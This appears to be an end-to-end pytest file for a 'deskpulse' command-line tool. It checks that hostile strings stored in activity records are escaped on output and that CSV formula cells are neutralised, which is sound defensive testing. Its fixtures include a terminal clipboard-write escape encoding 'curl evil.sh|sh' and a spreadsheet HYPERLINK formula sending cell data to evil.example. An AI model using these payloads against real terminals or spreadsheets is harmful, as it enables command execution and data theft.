"""Hostile titles, apps and names stored through the real stack never reach the terminal raw:
``deskpulse query`` in every format, ``report``, and the policy listings, run as processes."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import time
import uuid

import orjson
import pytest
from confluent_kafka import Producer

from deskpulse.core.output import printable
from schemas import topics
from tests.conftest import wait_for
from tests.helpers.terminal import raw_controls

pytestmark = pytest.mark.e2e

CLI = [sys.executable, "-m", "deskpulse.cli"]
TENANT = "term"
USER = "mallory"
#: an OSC 52 clipboard write, clear screen, an 8-bit CSI, a bidi override, CR and backspace
TITLE = ("inbox \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[2J\x9b31m\u202etxt.exe\r\x08 done "
         "\u2066x\u2069 \x85")
APP = "term\x1b[5m\x07"
#: a window title a spreadsheet would run (OWASP "CSV injection")
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'


def deskpulse(stack, *args: str) -> subprocess.CompletedProcess:
    done = subprocess.run([*CLI, *args, "--data-dir", stack.data_dir], capture_output=True,
                          text=True, timeout=120, stdin=subprocess.DEVNULL)
    assert done.returncode == 0, done.stderr
    assert not raw_controls(done.stdout), (args, done.stdout)
    assert not raw_controls(done.stderr), (args, done.stderr)
    return done


def test_hostile_text_is_printed_escaped_by_every_command(stack):
    now = int(time.time() * 1000)
    event = {"schema": "deskpulse.activity.v1", "event_id": uuid.uuid4().hex, "tenant": TENANT,
             "host": "pc-\x1b[8m", "user": USER, "app": APP, "title": TITLE,
             "start_ms": now - 120_000, "end_ms": now - 60_000}
    formula = {**event, "event_id": uuid.uuid4().hex, "host": "pc-2", "app": "calc",
               "title": FORMULA}
    producer = Producer({"bootstrap.servers": stack.broker})
    for e in (event, formula):
        producer.produce(topics.ACTIVITY, key=f"{TENANT}/{USER}".encode(), value=orjson.dumps(e))
    assert producer.flush(30) == 0
    sql = (f"SELECT app, title, host FROM deskpulse.activity_spans WHERE tenant = '{TENANT}' "
           "AND app != 'calc'")
    calc = (f"SELECT title, 7 - 10 AS n FROM deskpulse.activity_spans WHERE tenant = '{TENANT}' "
            "AND app = 'calc'")

    def stored() -> bool:
        out = deskpulse(stack, "query", sql, "--format", "json").stdout
        return bool(orjson.loads(out)) and bool(orjson.loads(deskpulse(
            stack, "query", calc, "--format", "json").stdout))
    wait_for(stored, timeout=120, what="the hostile span in the store", interval=1)

    as_json = deskpulse(stack, "query", sql, "--format", "json").stdout
    assert orjson.loads(as_json) == [{"app": APP, "title": TITLE, "host": "pc-\x1b[8m"}], \
        "JSON keeps the values exactly"
    table = deskpulse(stack, "query", sql).stdout
    assert printable(TITLE) in table and printable(APP) in table
    as_csv = deskpulse(stack, "query", sql, "--format", "csv").stdout
    assert printable(TITLE, keep_lines=True) in as_csv
    formula_csv = deskpulse(stack, "query", calc, "--format", "csv").stdout
    assert list(csv.reader(io.StringIO(formula_csv))) == [["title", "n"], ["'" + FORMULA, "-3"]], \
        "a title that is a formula gets a quote in CSV; a negative number stays a number"
    assert orjson.loads(deskpulse(stack, "query", calc, "--format", "json").stdout) == \
        [{"title": FORMULA, "n": -3}], "JSON keeps it exactly"

    report = deskpulse(stack, "report", "--tenant", TENANT).stdout
    assert USER in report and printable(APP) in report

    deskpulse(stack, "dnt", "add", "--user", "eve\x1b[31m", "--tenant", TENANT,
              "--reason", "asked \x1b]0;pwned\x07")
    listed = deskpulse(stack, "dnt", "list", "--tenant", TENANT).stdout
    assert "eve\\x1b[31m" in listed and "asked \\x1b]0;pwned\\x07" in listed
    deskpulse(stack, "schedule", "set", "--user", "bob\u202e", "--tz", "UTC", "--hours",
              "mon-fri 09:00-17:00", "--tenant", TENANT)
    assert "bob\\u202e" in deskpulse(stack, "schedule", "show", "--tenant", TENANT).stdout
    deskpulse(stack, "category", "set", "--title", "\x1b\\[2J", "--category", "tricks",
              "--productivity", "neutral", "--tenant", TENANT)
    assert "\\x1b\\[2J" in deskpulse(stack, "category", "list", "--tenant", TENANT).stdout
